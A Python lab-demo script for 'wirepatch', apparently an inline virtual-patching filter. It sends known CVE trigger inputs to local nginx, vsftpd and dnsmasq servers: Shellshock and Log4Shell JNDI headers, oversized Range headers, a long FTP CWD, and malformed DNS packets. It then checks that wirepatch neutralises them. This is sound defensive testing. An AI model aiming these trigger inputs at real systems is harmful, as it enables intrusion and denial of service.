#!/usr/bin/env python3
"""`make demo`: real clients and real servers, direct and through wirepatch, and what each server
received."""

import argparse
import glob
import os
import re
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lab as wires  # noqa: E402
from lab import DIRECT_SERVER, ROOT, SERVER, Lab, NotHere  # noqa: E402

# What the table says instead of a patch where none is to change anything.
ORDINARY = "(ordinary)"

LOG_FORMAT = "$host|$request|$http_user_agent|$http_x_api_version|$http_range|$http_cookie"


def nginx(lab):
    """Logs what it received; serves one page that tells it too."""
    root = lab.path("www")
    os.makedirs(root, exist_ok=True)
    lab.write("www/index.html", "ordinary page\n")
    lab.write("www/file.bin", "0123456789" * 500)
    config = lab.write("nginx.conf", f"""
user root; daemon off; pid {lab.path('nginx.pid')}; error_log {lab.path('nginx-error.log')};
events {{ worker_connections 256; }}
http {{
  log_format received '{LOG_FORMAT}';
  access_log {lab.path('nginx-access.log')} received;
  client_body_temp_path {lab.path('t1')}; proxy_temp_path {lab.path('t2')}; fastcgi_temp_path {lab.path('t3')};
  uwsgi_temp_path {lab.path('t4')}; scgi_temp_path {lab.path('t5')};
  large_client_header_buffers 8 64k;
  server {{ listen 80; listen [::]:80; root {root}; max_ranges 100000; }}
}}
""")
    lab.start("server", ["nginx", "-c", config], log="nginx.log")
    lab.listening("server", "127.0.0.1", 80)


def vsftpd(lab):
    """Anonymous, its protocol log tells every command as it was received."""
    os.makedirs(lab.path("ftp/pub"), exist_ok=True)
    lab.write("ftp/pub/hello.txt", "hello over ftp\n")
    os.chmod(lab.path("ftp"), 0o555)
    os.chmod(lab.folder, 0o755)
    config = lab.write("vsftpd.conf", f"""
listen=YES
background=NO
run_as_launching_user=YES
anonymous_enable=YES
anon_root={lab.path('ftp')}
no_anon_password=YES
xferlog_enable=YES
log_ftp_protocol=YES
vsftpd_log_file={lab.path('vsftpd-protocol.log')}
seccomp_sandbox=NO
one_process_model=YES
""")
    os.chmod(config, 0o644)
    lab.start("server", ["/usr/sbin/vsftpd", config], log="vsftpd.log")
    lab.listening("server", "127.0.0.1", 21)


def dnsmasq(lab):
    """Answers from its own table; logs every query as received."""
    lab.start("server", [
        "/usr/sbin/dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
        "--log-queries=extra", f"--log-facility={lab.path('dnsmasq-queries.log')}", "--pid-file",
        "--address=/shop.example/198.18.1.2", "--txt-record=shop.example,an ordinary answer", "--local=/example/",
    ], log="dnsmasq.log")
    wires.wait_for("dnsmasq", lambda: "shop" in lab.run(
        "server", ["dig", "+short", "+time=1", "+tries=1", "@127.0.0.1", "TXT", "shop.example"], check=False).stdout
        or "ordinary" in lab.run("server", ["dig", "+short", "+time=1", "+tries=1", "@127.0.0.1", "TXT", "shop.example"],
                                 check=False).stdout)


def last_line(lab, name, wanted):
    """The last line of a server's log that holds `wanted`, once it is there; "" when the server
    never saw it."""
    try:
        return wires.wait_for(name, lambda: next(
            (line for line in reversed(lab.read(name).splitlines()) if wanted in line), None), 2)
    except (RuntimeError, FileNotFoundError):
        return ""


def shorten(text, width=34):
    text = text.replace("\r", "").strip()
    return text if len(text) <= width else f"{text[:width - 9]}…({len(text)})"


def header_of(lab, field, marker):
    """Field `field` of nginx's log line of the request that carries `marker`."""
    line = last_line(lab, "nginx-access.log", marker)
    return line.split("|")[field] if line else "(nothing)"


def http_row(patch, what, headers, field):
    counter = {"n": 0}

    def go(lab, server):
        counter["n"] += 1
        marker = f"{patch}-{counter['n']}"
        words = [word for header in headers for word in ("-H", header)]
        lab.run("client", ["curl", "-s", "-m", "10", "-o", "/dev/null", *words, f"http://{server}/file.bin?{marker}"],
                check=False)
        return header_of(lab, field, marker)

    return patch, what, go


def ftp_row(patch, what, command):
    def go(lab, server):
        before = len(lab.read("vsftpd-protocol.log")) if os.path.exists(lab.path("vsftpd-protocol.log")) else 0
        done = lab.run("client", [sys.executable, "-c", f"""
import socket
s = socket.create_connection(({server!r}, 21), 120); f = s.makefile('rb')
f.readline()
for line in ('USER anonymous', 'PASS demo@', {command!r}, 'QUIT'):
    s.sendall(line.encode('latin-1') + b'\\r\\n')
    while True:
        answer = f.readline()
        if not answer or answer[3:4] == b' ': break
    print(line, answer)
"""], check=False)
        verb = command.split(" ", 1)[0]
        if "QUIT b'221" in done.stdout:
            wires.wait_for("the server's log", lambda: "QUIT" in lab.read("vsftpd-protocol.log")[before:])
        new = lab.read("vsftpd-protocol.log")[before:]
        lines = re.findall(r'FTP command: Client "[^"]*"(?:, ".*?")?, "(%s .*?)"\n' % re.escape(verb), new, re.S) or \
            re.findall(r'"(%s [^\n]*)"' % re.escape(verb), new)
        return lines[-1] if lines else "(nothing)"

    return patch, what, go


# Prints, in hexadecimal, the UDP payloads for port 53 that reach this host, up to a last one.
NEXT_DATAGRAM = """
import socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
print("listening", flush=True)
s.settimeout(120)
while True:
    frame, origin = s.recvfrom(2048)
    ip = frame[14:]
    udp = ip[(ip[0] & 15) * 4:]
    if origin[2] != socket.PACKET_OUTGOING and frame[12:14] == b"\\x08\\0" and ip[9] == 17 and udp[2:4] == b"\\0\\x35":
        payload = udp[8:int.from_bytes(udp[4:6], "big")]
        if payload.hex() == sys.argv[1]: break
        print(payload.hex())
"""


def dns_row(patch, what, message):
    """One datagram; its length and records as the server's interface received them (no DNS server
    logs as much)."""
    def go(lab, server):
        seen = lab.start("server", [sys.executable, "-c", NEXT_DATAGRAM, LAST.hex()], log="datagram.log")
        wires.wait_for("the listener", lambda: "listening" in lab.read("datagram.log"))
        lab.run("client", [sys.executable, "-c", f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for message in ({message.hex()!r}, {LAST.hex()!r}):
    s.sendto(bytes.fromhex(message), ({server!r}, 53))
"""])
        seen.wait()
        received = bytes.fromhex("".join(lab.read("datagram.log").splitlines()[1:]))
        if not received:
            return "(nothing)"
        records = int.from_bytes(received[10:12], "big")
        return f"{len(received)} bytes, {records} additional" if len(received) >= 12 else f"{len(received)} bytes"

    return patch, what, go


def query(name, *, options=None):
    """A query of type A, with an OPT record that holds `options` (RFC 6891 section 6.1.2)."""
    header = b"\x12\x34\x01\x00\0\x01\0\0\0\0" + (b"\0\0" if options is None else b"\0\x01")
    opt = b"" if options is None else b"\0\0\x29\x10\0\0\0\0\0" + len(options).to_bytes(2, "big") + options
    return header + name + b"\0\x01\0\x01" + opt


NAME = b"\x04shop\x07example\0"
# An ordinary query: whatever was sent before it has arrived, or does not.
LAST = query(b"\x04last\0")

ROWS = [
    http_row("cve-2014-6271", "User-Agent: () { :; }; …", ["User-Agent: () { :; }; echo demo"], 2),
    http_row("cve-2021-44228", "X-Api-Version: ${jndi:…}", ["X-Api-Version: ${jndi:ldap://demo.invalid/a}"], 3),
    http_row("cve-2011-3192", "Range of 300 parts", ["Range: bytes=" + ",".join(f"{n}-{n}" for n in range(300))], 4),
    http_row("ms15-034", "Range to 2^64-1", ["Range: bytes=0-18446744073709551615"], 4),
    http_row(ORDINARY, "an ordinary request", ["User-Agent: demo/1.0", "Range: bytes=0-99"], 2),
    ftp_row("cve-2010-4221", "CWD of 600 bytes", "CWD /" + "A" * 600),
    ftp_row(ORDINARY, "CWD pub", "CWD pub"),
    dns_row("cve-2017-14496", "EDNS option past its end", query(NAME, options=b"\0\x0a\x00\xffcookie")),
    dns_row("rustsec-2018-0007", "name that points forward", query(b"\xc0\x0e\0")),
    dns_row(ORDINARY, "query with EDNS cookie", query(NAME, options=b"\0\x0a\x00\x0812345678")),
]


def table(rows):
    widths = [max(len(row[column]) for row in rows) for column in range(len(rows[0]))]
    for number, row in enumerate(rows):
        print("  " + "  ".join(cell.ljust(width) for cell, width in zip(row, widths)).rstrip())
        if number == 0:
            print("  " + "  ".join("-" * width for width in widths))


def demo(arguments):
    named = [patch for patch, _, _ in ROWS if patch != ORDINARY]
    groups = [{"name": "demo", "addresses": [SERVER + "/32", wires.SERVER6 + "/128"],
               "patches": [file for patch in named for file in glob.glob(os.path.join(ROOT, "patches", "*", patch + ".yaml"))]}]
    failed = []
    with Lab(arguments.driver, arguments.layout) as lab:
        print(f"two hosts, joined by a direct wire and by wirepatch ({arguments.driver}, {arguments.layout})")
        for server in (nginx, vsftpd, dnsmasq):
            server(lab)
        lab.start_box(lab.config(groups))
        shown = [("patch", "sent", "server got, direct", "server got, through wirepatch")]
        for patch, what, go in ROWS:
            direct, through = go(lab, DIRECT_SERVER), go(lab, SERVER)
            shown.append((patch, what, shorten(direct), shorten(through)))
            ordinary = patch == ORDINARY
            if (direct == through) != ordinary or direct == "(nothing)":
                failed.append(f"{what}: direct {shorten(direct)!r}, through wirepatch {shorten(through)!r}")
        table(shown)
        print("\nordinary clients through wirepatch:")
        for name, command in (
            ("curl", ["curl", "-s", "-m", "10", f"http://{SERVER}/"]),
            ("lftp", ["lftp", "-c", f"set net:timeout 60; set net:max-retries 1; open ftp://{SERVER}; cat pub/hello.txt"]),
            ("dig", ["dig", "+short", "+tries=1", f"@{SERVER}", "TXT", "shop.example"]),
        ):
            got = lab.run("client", command, check=False)
            print(f"  {name:5} {got.stdout.strip() or got.stderr.strip()}")
            if got.returncode != 0 or not got.stdout.strip():
                failed.append(f"{name}: {got.stderr.strip() or got.stdout.strip()}")
        print("\nfrom /metrics:")
        counters = ("messages", "edits", "verdicts", "removed_bytes")
        counted = [("patch", *counters)]
        for patch in named:
            of = [int(lab.metric(f"wirepatch_patch_{counter}_total", patch=patch)) for counter in counters]
            counted.append((patch, *map(str, of)))
            if not of[1] + of[2]:
                failed.append(f"{patch} has done nothing")
        table(counted)
        code = lab.stop_box()
        if code != 0:
            failed.append(f"wirepatch run ended with {code}:\n{lab.read('wirepatch.log')[-2000:]}")
    for line in failed:
        print(f"NOT AS IT SHOULD BE: {line}")
    return 1 if failed else 0


def replay_instead(why):
    """Without namespaces: the bundled capture through the same patches."""
    print(f"{why}\nfalling back to `wirepatch replay` on a bundled capture")
    out = os.path.join(os.environ.get("TMPDIR", "/tmp"), f"wirepatch-demo-{os.getpid()}.pcap")
    try:
        return subprocess.run([wires.binary(), "replay", os.path.join(ROOT, "deploy/lab/demo.pcap"), "-o", out,
                               "--patches", os.path.join(ROOT, "patches")]).returncode
    finally:
        if os.path.exists(out):
            os.remove(out)


def main():
    words = argparse.ArgumentParser(description=__doc__)
    words.add_argument("--driver", choices=("tap", "af_packet", "af_xdp"), default="tap")
    words.add_argument("--layout", choices=("run_to_completion", "rings"), default="run_to_completion")
    arguments = words.parse_args()
    try:
        wires.isolate()
        return demo(arguments)
    except NotHere as why:
        return replay_instead(why)


if __name__ == "__main__":
    sys.exit(main())
